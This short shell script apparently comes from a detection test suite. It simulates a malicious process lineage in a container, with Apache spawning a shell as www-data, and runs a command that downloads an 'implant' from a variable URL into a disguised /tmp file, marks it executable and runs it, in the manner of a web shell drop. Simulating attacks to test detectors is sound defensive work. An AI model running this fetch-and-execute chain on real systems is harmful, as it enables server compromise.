#!/bin/sh
# malicious: the same apache2 -> sh -c lineage as www-data, but the command downloads and runs a payload (a web shell)
# container
. "$(dirname "$0")/../../lib.sh"
APP_USER=www-data ctr_app apache2 "curl -s -o /tmp/sess_a81f $URL/implant && chmod +x /tmp/sess_a81f && /tmp/sess_a81f"
